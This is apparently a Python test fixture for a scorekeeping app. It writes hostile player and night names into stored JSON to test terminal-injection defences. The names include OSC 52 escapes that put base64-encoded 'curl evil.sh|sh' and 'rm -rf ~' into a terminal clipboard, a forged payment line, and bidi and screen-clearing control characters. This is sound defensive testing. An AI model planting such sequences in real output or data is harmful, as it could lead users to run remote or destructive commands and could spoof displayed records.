"""A store whose players and night hold hostile names, written by hand into its logs.

The engine now refuses such names when a session is started, but stores written before
hold them, so the files are built with harmless names and the names swapped in the JSON,
as an attacker (or an old version) would have left them.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

from scorekeeper.session import Session
from scorekeeper.store import Store
from scorekeeper.wording import day
from tests.factories import file_of
from tests.ui import evenings

CLIPBOARD = "Bob\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07"
"""Puts ``curl evil.sh|sh`` in the clipboard of a terminal that obeys OSC 52."""
FAKE_LINE = "Eve\nBob pays Eve $500.00"
"""Prints a payment nobody owes where names are split on newlines."""
MARKUP = "[bold]x[/]"
"""Bold ``x`` if read as markup; a crash if the markup does not close."""
RETITLE = "Cy\x1b]0;pwned\x1b\\"
BIDI = "Di\u202eevil\u202c"
C1 = "Ed\x9b2J"
ZERO_WIDTH = "Flo\u200b\u2028x"

HOSTILE = (CLIPBOARD, FAKE_LINE, MARKUP, RETITLE, BIDI, C1, ZERO_WIDTH)
NIGHT_NAME = "Night\x1b]52;c;cm0gLXJmIH4=\x07\n[red]Bob owes $1,000[/]"

RAW = (b"\x1b]52", b"\x1b]0;", b"\x07", b"\x1b[2J", b"\xc2\x9b", "\u202e".encode())
"""Bytes that must never reach the terminal from a name (the app's own drawing uses
CSI sequences, but never these)."""

MAKERS: tuple[Callable[[], Session], ...] = (
    evenings.racehorse,
    evenings.calcutta,
    evenings.horse_race,
    evenings.seven_hand,
    evenings.rummy_5000,
    evenings.hot_rum,
)
"""A fixed scene, not every game: the CLI's tests check its exact figures, which a game
added would change. Every game's entry is battered in ``test_hostile_keys``."""


def _renamed(value: Any, names: dict[str, str]) -> Any:
    if isinstance(value, str):
        return names.get(value, value)
    if isinstance(value, list):
        return [_renamed(item, names) for item in value]
    if isinstance(value, dict):
        return {names.get(key, key): _renamed(item, names) for key, item in value.items()}
    return value


def write_hostile_store(path: Path) -> dict[str, list[str]]:
    """One session of each game with hostile names in place of the players', and a night
    with a hostile name; returns each session's id with its players as now stored."""
    made: dict[str, tuple[str, ...]] = {}
    with Store(path) as store:
        for maker in MAKERS:
            session = maker()
            made[store.add(session)] = session.players
        night = day(store.summaries()[0].started)
    players: dict[str, list[str]] = {}
    for session_id, old in made.items():
        names = dict(zip(old, HOSTILE, strict=False))
        file = file_of(path, session_id)
        saved = _renamed(json.loads(file.read_text(encoding="utf-8")), names)
        file.write_text(json.dumps(saved), encoding="utf-8")
        (setup,) = (event for event in saved["events"].values() if event["kind"] == "setup")
        players[session_id] = setup["body"]["players"]
    for stale in [*path.glob("index*"), *(path / "logs").glob("*.bak")]:
        stale.unlink()
    nights = {"schema": 1, "names": {night: NIGHT_NAME}}
    (path / "nights.json").write_text(json.dumps(nights), encoding="utf-8")
    return players
